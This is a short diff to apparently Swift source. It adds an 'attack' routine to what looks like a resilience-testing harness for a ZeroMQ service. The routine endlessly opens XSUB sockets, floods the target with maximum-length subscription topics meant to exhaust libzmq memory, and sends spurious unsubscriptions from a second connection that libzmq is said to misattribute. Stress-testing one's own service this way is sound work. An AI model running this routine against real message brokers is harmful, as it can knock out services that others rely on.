@@ -24,6 +24,30 @@ enum SubscriptionAttacks {
         }
     }
 
+    /// Topics of the maximum length that part at each of many bytes, for which libzmq needs most memory. A second
+    /// connection ends subscriptions that it does not have, which libzmq reports as if they were those of the first.
+    @Sendable static func hiddenTopics(
+        at endpoint: @escaping @Sendable (Endpoints) -> String
+    ) -> @Sendable (AttackTarget, AttackTally) throws -> Void {
+        { target, tally in
+            var random = FastRandom()
+            while true {
+                let holder = try target.socket(.xsub, at: endpoint(target.endpoints))
+                let ender = try target.socket(.xsub, at: endpoint(target.endpoints))
+                var topics: [[UInt8]] = []
+                for index in 0..<20_000 {
+                    let head = Array("sc2/fleet/join/".utf8) + random.bytes(16).map { $0 < 128 ? 1 : 255 }
+                    let tail = [UInt8](repeating: UInt8(ascii: "0"), count: Limits.topicBytesMax - 1 - head.count)
+                    topics.append(head + tail + [0])
+                    _ = try holder.send(frames: [[1] + topics[index]])
+                    if index >= 100 { _ = try ender.send(frames: [[9], [0] + topics[index - 100]]) }
+                    tally.send()
+                    try holder.drain(tally)
+                }
+            }
+        }
+    }
+
     /// The beginning and the end of a subscription to the same topic, again and again.
     @Sendable static func resubscribe(
         to topic: Topic,
